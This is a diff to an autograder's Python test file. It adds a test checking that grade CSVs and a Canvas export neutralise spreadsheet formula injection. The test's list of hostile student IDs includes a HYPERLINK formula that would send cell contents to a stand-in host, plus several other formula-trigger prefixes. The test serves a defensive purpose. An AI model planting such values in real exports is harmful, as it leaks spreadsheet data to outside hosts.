@@ -12,7 +12,7 @@ import shutil
 import pytest
 
 from autograder.core.course import ASSIGNMENTS
-from autograder.core.results import NotebookResult
+from autograder.core.results import CheckResult, NotebookResult
 from autograder.frontends.progress import Progress
 from autograder.judge.late import LatePolicy, parse_time
 from autograder.release import synth
@@ -291,3 +291,34 @@ def test_discrimination_is_the_point_biserial_correlation_with_the_rest():
     assert point_biserial([True, True, False, False], [10, 8, 2, 0]) == pytest.approx(0.97, abs=0.005)
     assert point_biserial([True, True], [3, 5]) is None  # everyone passed: no information
     assert point_biserial([True, False], [4, 4]) is None
+
+
+# 5. spreadsheets
+
+
+HOSTILE_IDS = ('=HYPERLINK("x.test?"&A1,"x")', "@SUM(1+1)", "+1+1", "-1-1", "\tpadded", "\rreturn")
+
+
+def test_no_csv_cell_the_package_writes_starts_a_formula(tmp_path):
+    from autograder.report import lms, reports
+
+    checks = tuple(ASSIGNMENTS[A.name].checks(False))
+    results = []
+    for student in HOSTILE_IDS:
+        graded = tuple(CheckResult(c.name, c.function, "", c.points, c.points, c.hidden) for c in checks)
+        results.append(NotebookResult(student, A.name, graded))
+        reports.write_submission(tmp_path, results[-1], False)
+    reports.write_class_summary(tmp_path)
+    roster = [
+        {"student": s, "name": s, "id": s, "sis_user_id": s, "sis_login_id": s, "section": s} for s in HOSTILE_IDS
+    ]
+    written = {
+        "grades.csv": (tmp_path / "grades.csv").read_bytes().decode(),  # "\r" kept as is
+        "canvas": lms.export(results, roster, "canvas").text,
+    }
+    for name, text in written.items():
+        rows = list(csv.reader(io.StringIO(text)))
+        cells = [c for row in rows for c in row]
+        assert {f"'{s}" for s in HOSTILE_IDS} <= set(cells), (name, rows)
+        for cell in cells:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
